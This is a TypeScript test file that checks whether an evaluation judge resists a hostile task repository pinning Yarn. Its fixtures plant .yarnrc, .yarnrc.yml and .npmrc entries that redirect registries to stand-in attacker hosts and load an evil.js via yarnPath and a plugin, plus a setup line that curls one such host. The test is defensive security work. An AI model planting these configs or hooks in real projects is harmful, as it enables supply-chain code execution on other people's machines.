import { existsSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { gitIn, makeRepo } from '../../fixtures/build.ts';
import { runCli } from '../support/cli.ts';
import { startNpmRegistry, type NpmRegistry } from '../support/npm-registry.ts';
import { makeTempDir } from '../support/tmp.ts';

/**
 * ATTACK (held): a hostile eval task repository against the judge, which
 * now provides pnpm/Yarn (`judge.ts` → `provideManager`). The task's repo
 * pins the Yarn the tests' registry has and plants every config Yarn and
 * npm read (`.yarnrc` registry + yarn-path, `.yarnrc.yml`
 * npmRegistryServer + yarnPath + a plugin, `.npmrc`), each pointing at code
 * that would mark the host. Its set-up then tries the host those configs
 * name. Nothing runs on the host, the registry Yarn answered with is the
 * operator's environment's, and the set-up's proxy refuses the planted host.
 */
describe('eval validate on a hostile task repository that pins Yarn', () => {
  const temp = makeTempDir('regreen-h-judge-');
  const marker = path.join(temp.dir, 'RAN-ON-HOST');
  let registry: NpmRegistry;
  beforeAll(async () => {
    registry = await startNpmRegistry(['yarn-1.22.22.tgz']);
  });
  afterAll(async () => {
    await registry.close();
    temp.cleanup();
  });

  it('runs no repository code on the host and reaches no host the repository names', async () => {
    const evil = `require('fs').writeFileSync(${JSON.stringify(marker)}, 'pwned');\n`;
    const repo = makeRepo(path.join(temp.dir, 'task'), {
      'package.json': `${JSON.stringify({ name: 'x', version: '1.0.0', private: true, packageManager: 'yarn@1.22.22', scripts: { test: 'node -e "process.exit(require(\\"./v.js\\"))"' } })}\n`,
      'yarn.lock': '# yarn lockfile v1\n',
      '.yarnrc': 'registry "http://evil-yarnrc.invalid:4444/"\nyarn-path "./evil.js"\n',
      '.npmrc': 'registry=http://evil-npmrc.invalid:5555/\n',
      '.yarnrc.yml':
        'npmRegistryServer: "http://evil-berry.invalid:6666"\nyarnPath: ./evil.js\nplugins:\n  - path: ./evil.js\n',
      'evil.js': evil,
      'v.js': 'module.exports = 1;\n',
    });
    const base = gitIn(repo, 'rev-parse', 'HEAD').trim();
    writeFileSync(path.join(repo, 'v.js'), 'module.exports = 0;\n');
    const gold = gitIn(repo, 'diff', base);
    gitIn(repo, 'checkout', '--', '.');
    const setup =
      'echo "yarn at $(command -v yarn)"; curl -sS -m 5 -o /dev/null http://evil-yarnrc.invalid:4444/ 2>&1 | tail -1; exit 3';
    const task = {
      id: 'hostile-yarn',
      repo,
      base_commit: base,
      gold_patch: gold,
      setup,
      test_command: 'node -e "process.exit(require(\'./v.js\'))"',
      fail_to_pass: ['node -e "process.exit(require(\'./v.js\'))"'],
      pass_to_pass: [],
      env: {},
      timeout_s: 120,
      kind: 'ci',
    };
    const file = path.join(temp.dir, 'tasks.jsonl');
    writeFileSync(file, `${JSON.stringify(task)}\n`);
    const result = await runCli(['eval', 'validate', '--tasks', file, '--json'], {
      npm_config_registry: registry.url,
      npm_config_cache: path.join(temp.dir, 'npm-cache'),
      REGREEN_TOOLS_DIR: path.join(temp.dir, 'tools'),
    });
    const [validation] = JSON.parse(result.stdout || '[]') as { valid: boolean; reason?: string }[];
    const reason = validation?.reason ?? '';
    // The judge provided Yarn from regreen's tools folder; the set-up failed as it chose to.
    expect(reason, result.stderr).toMatch(/yarn at \S*tools\/yarn@1\.22\.22\/bin\/yarn/);
    expect(reason).toMatch(/the setup proxy refused evil-yarnrc\.invalid:4444/);
    expect(existsSync(marker)).toBe(false);
  }, 600_000);
});
